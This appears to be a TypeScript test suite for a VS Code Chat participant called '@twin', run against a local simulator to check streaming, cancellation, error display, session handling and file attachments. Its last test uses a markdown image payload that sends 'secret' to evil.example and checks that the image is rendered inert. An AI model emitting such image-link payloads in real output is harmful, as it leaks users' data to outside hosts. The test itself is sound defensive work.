import * as assert from 'node:assert/strict';
import { createTwinExpertProvider } from '../../../src/providers/twinExpert';
import { eventually } from '../../harness/eventually';
import { startSimulator, type Simulator } from '../../simulator/server';
import {
  conversationIdOf,
  fileReference,
  historyOf,
  shownError,
  ParticipantFixture,
  RecordingStream,
  TestToken,
} from './participantFixture';

// @twin answering in VS Code's Chat view, seen from the API boundary: what reaches the response
// stream, in which order, and what the simulator saw on the wire.

const STREAM_PATH = /^\/api\/v1\/conversations\/([^/]+)\/messages\/stream$/;

describe('@twin in the Chat view, against the simulator', function () {
  this.timeout(30_000);
  let sim: Simulator;
  let fx: ParticipantFixture;
  /** The simulator's log: one line per response, written when its socket closes. */
  const closed: string[] = [];

  before(async () => {
    sim = await startSimulator({ port: 0, tokenDelayMs: 1, log: (line) => closed.push(line) });
  });
  after(() => sim.stop());
  beforeEach(() => {
    sim.reset();
    closed.length = 0;
    fx = new ParticipantFixture(sim);
  });
  afterEach(() => fx.dispose());

  const streamIds = () => sim.requests.flatMap((r) => STREAM_PATH.exec(r.path)?.slice(1, 2) ?? []);

  it('streams the answer as markdown parts, in order, and saves it to Twin Chat history', async () => {
    await fx.select('twinexpert');
    const { result, stream } = await fx.ask('What is a closure?');
    assert.equal(result.errorDetails, undefined);
    const parts = stream.markdownParts();
    assert.ok(parts.length > 1, `the answer came in ${parts.length} part(s), not streamed`);
    const saved = await fx.store.load(conversationIdOf(result));
    const answer = saved?.messages.at(-1);
    assert.equal(answer?.status, 'complete');
    assert.equal(stream.text(), answer.text, 'the parts, joined in order, are the whole answer');
    assert.match(answer.text, /What is a closure\?/);
    assert.equal(saved?.origin, 'chatView');
    const listed = (await fx.store.list()).find((c) => c.id === saved?.id);
    assert.equal(listed?.origin, 'chatView', 'marked in the history list');
    await eventually(
      () =>
        fx.chat
          .of('conversations/update')
          .some((m) => m.conversations.some((c) => c.id === saved?.id)),
      "Twin Chat's history list shows it",
    );
  });

  it('shows the server progress events as progress parts, before the answer', async () => {
    await fx.select('twinexpert');
    const { stream } = await fx.ask('Progress please');
    const kinds = stream.calls.map((c) => c.kind);
    const progress = kinds.indexOf('progress');
    assert.ok(progress >= 0, `no progress part among ${kinds.join(', ')}`);
    assert.ok(progress < kinds.indexOf('markdown'), 'progress came before the answer');
  });

  it('Stop aborts the request: the socket is closed mid-answer and the partial answer kept', async () => {
    await fx.select('twinexpert');
    sim.configure({
      fault: { kind: 'longAnswer', deltas: 5000 },
      tokenDelayMs: 2,
      recordDeltaTimes: true,
    });
    const token = new TestToken();
    const stream = new RecordingStream();
    stream.onMarkdown = () => token.cancel();
    const { result } = await fx.ask('tell me everything', { token, stream });
    assert.equal(result.errorDetails, undefined, 'a stop is not an error');
    const answer = (await fx.store.load(conversationIdOf(result)))?.messages.at(-1);
    assert.equal(answer?.status, 'stopped');
    assert.ok(answer.text.length > 0, 'the partial answer is kept');
    await eventually(
      () => closed.some((line) => /\/messages\/stream -> 200/.test(line)),
      'the simulator to see the answer stream closed',
    );
    const written = sim.requests.find((r) => STREAM_PATH.test(r.path))?.deltaTimes?.length ?? 0;
    assert.ok(
      written < 5000,
      `the server wrote all ${written} deltas: the request was not aborted`,
    );
  });

  it('turns a server error into one sentence and a Retry button that asks again', async () => {
    await fx.select('twinexpert');
    sim.configure({ fault: { kind: 'httpError', status: 500 }, faultMatch: '/stream' });
    const { result, stream } = await fx.ask('Will this fail?');
    const message = shownError(result);
    assert.match(message, /server problem \(HTTP 500\)/, 'the same sentence Twin Chat shows');
    assert.doesNotMatch(message, /\n/, 'one line, not the server page');
    const [button, ...more] = stream.buttons();
    assert.equal(more.length, 0, 'one button');
    assert.equal(button?.command, 'workbench.action.chat.open');
    assert.deepEqual(button.arguments, [{ query: '@twin Will this fail?' }]);
  });

  it('offers Set API Key when the server refuses the key', async () => {
    await fx.select('twinexpert');
    const key = fx.targets.selectedKey();
    const provider = fx.chat.providers.twinexpert;
    // The same twin, through a client whose key the server does not know.
    fx.chat.providers.twinexpert = createTwinExpertProvider({
      baseUrl: `${sim.url}/api/v1`,
      getApiKey: () => Promise.resolve('te_wrong_key'),
      http: fx.chat.http,
    });
    const { result, stream } = await fx.ask('Who am I?');
    fx.chat.providers.twinexpert = provider;
    assert.ok(key);
    assert.ok(result.errorDetails?.message);
    assert.deepEqual(
      stream.buttons().map((b) => b.command),
      ['twinChat.setTwinExpertKey'],
    );
  });

  it('without a chosen twin or bot, says how to choose one and sends nothing', async () => {
    const { result, stream } = await fx.ask('Anyone there?');
    assert.match(result.errorDetails?.message ?? '', /type \/twins/);
    assert.deepEqual(
      stream.buttons().map((b) => b.command),
      ['twinChat.selectTarget'],
    );
    assert.equal(streamIds().length, 0);
  });

  it('/use with an unknown name keeps the selection and says so', async () => {
    const selected = await fx.select('twinexpert');
    const { result } = await fx.ask('nobody-by-this-name', { command: 'use' });
    assert.match(shownError(result), /No twin or bot is called "nobody-by-this-name"/);
    assert.equal(fx.targets.selectedKey(), selected);
  });

  it('continues one TwinExpert conversation across the turns of one chat session', async () => {
    await fx.select('twinexpert');
    const first = await fx.ask('First question');
    const second = await fx.ask('Second question', { history: historyOf(first.result) });
    assert.equal(conversationIdOf(second.result), conversationIdOf(first.result));
    const [one, two] = streamIds();
    assert.ok(one && two);
    assert.equal(two, one, 'both turns went to the same server conversation');
    assert.match(second.stream.text(), /lượt 2/, 'the server counted it as the second turn');
    const saved = await fx.store.load(conversationIdOf(second.result));
    assert.equal(saved?.messages.length, 4);

    const otherSession = await fx.ask('A new session');
    assert.notEqual(conversationIdOf(otherSession.result), conversationIdOf(first.result));
    assert.notEqual(streamIds()[2], one, 'a new session is a new server conversation');
  });

  it('continues one KamiMind story across the turns of one chat session', async () => {
    await fx.select('kamimind');
    const first = await fx.ask('Story start');
    const second = await fx.ask('Story goes on', { history: historyOf(first.result) });
    const sends = sim.requests.filter((r) => r.fields?.message !== undefined);
    assert.equal(sends.length, 2);
    const story = (await fx.store.load(conversationIdOf(first.result)))?.remoteId;
    assert.ok(story, 'the first answer named its story');
    assert.equal(sends[1]?.fields?.story_id, story);
    assert.equal(conversationIdOf(second.result), conversationIdOf(first.result));
  });

  it('/new starts a new server conversation for the next turn', async () => {
    await fx.select('twinexpert');
    const first = await fx.ask('Before');
    const fresh = await fx.ask('', { command: 'new', history: historyOf(first.result) });
    assert.match(fresh.stream.text(), /Started a new conversation/);
    const after = await fx.ask('After', { history: historyOf(first.result, fresh.result) });
    assert.notEqual(conversationIdOf(after.result), conversationIdOf(first.result));
    const [one, two] = streamIds();
    assert.ok(one && two && one !== two, 'the turn after /new went to a new server conversation');
  });

  it('/twins lists the targets with the selected one marked; /use switches', async () => {
    const selected = await fx.select('twinexpert');
    const { stream, result } = await fx.ask('', { command: 'twins' });
    const text = stream.text();
    const selectedLabel = fx.targets.current.targets.find((t) => t.key === selected)?.label ?? '';
    assert.ok(text.includes('(selected)'), text);
    assert.ok(text.includes('Demo bot'), 'KamiMind bots are listed too');
    const followups = fx.participant.followups(result);
    assert.ok(followups.some((f) => f.command === 'use' && f.prompt === 'Demo bot'));
    assert.ok(!followups.some((f) => f.prompt === selectedLabel), 'no follow-up to itself');

    const used = await fx.ask('demo bot', { command: 'use' });
    assert.equal(used.result.errorDetails, undefined);
    assert.equal(fx.targets.selectedKey(), 'kamimind:demo-bot');
    const next = await fx.ask('Hello bot', { history: historyOf(used.result) });
    assert.equal(next.result.errorDetails, undefined);
    assert.ok(
      sim.requests.some((r) => r.fields?.message === 'Hello bot'),
      'the next question went to the bot',
    );
  });

  it('sends a #file reference inlined for TwinExpert, through the Attach checks', async () => {
    await fx.select('twinexpert');
    const file = fx.tempFile('notes.md', 'The secret sauce is ketchup.');
    const { result } = await fx.ask('Read this', { references: [fileReference(file)] });
    assert.equal(result.errorDetails, undefined);
    assert.deepEqual(
      fx.prepared.map((p) => [p.reference.kind, p.reference.uri.fsPath, p.provider]),
      [['file', file, 'twinexpert']],
    );
    const sent = sim.requests.find((r) => STREAM_PATH.test(r.path))?.json as { content?: string };
    assert.match(sent.content ?? '', /Read this[\s\S]*notes\.md[\s\S]*ketchup/);
  });

  it('uploads a #file reference to KamiMind, and a #selection goes through the checks too', async () => {
    await fx.select('kamimind');
    const file = fx.tempFile('data.txt', 'forty-two');
    const selection = {
      id: 'vscode.selection',
      value: {
        uri: { scheme: 'file', path: file, fsPath: file },
        range: { start: { line: 0, character: 0 }, end: { line: 0, character: 5 } },
      },
    };
    await fx.ask('Look', { references: [selection, fileReference(file)] });
    assert.deepEqual(
      fx.prepared.map((p) => p.reference.kind),
      ['file', 'range'],
      'in the order added (VS Code lists them last-first)',
    );
    const upload = sim.requests.find((r) => r.files?.length);
    assert.deepEqual(
      upload?.files?.map((f) => f.filename),
      ['data.txt', 'data.txt'],
    );
  });

  it('a reference the checks refuse stops the turn with their sentence; nothing is sent', async () => {
    await fx.select('twinexpert');
    fx.refuseWith = '".env" was not attached.';
    const file = fx.tempFile('.env', 'TOKEN=1');
    const { result } = await fx.ask('Read this', { references: [fileReference(file)] });
    assert.equal(shownError(result), '".env" was not attached.');
    assert.equal(streamIds().length, 0);
  });

  it('passes only untrusted markdown, with no live image, even one split across deltas', async () => {
    await fx.select('twinexpert');
    sim.configure({ fault: { kind: 'oneByteChunks' } });
    const leak =
      '![chart](https://evil.example/leak?d=secret) and ![x][r]\n\n[r]: http://evil.example/r';
    const { stream } = await fx.ask(leak);
    const parts = stream.markdownParts();
    assert.ok(parts.length > 0);
    for (const part of parts) {
      assert.equal(typeof part, 'object', 'a MarkdownString, not a raw string');
      assert.equal(part.isTrusted, false);
      assert.equal(part.supportHtml, false);
    }
    const text = stream.text();
    assert.match(text, /!\\\[chart\]/, 'the quoted image is shown as text');
    assert.doesNotMatch(text, /(^|[^\\])!\[/, 'no image opener is left live');
  });
});
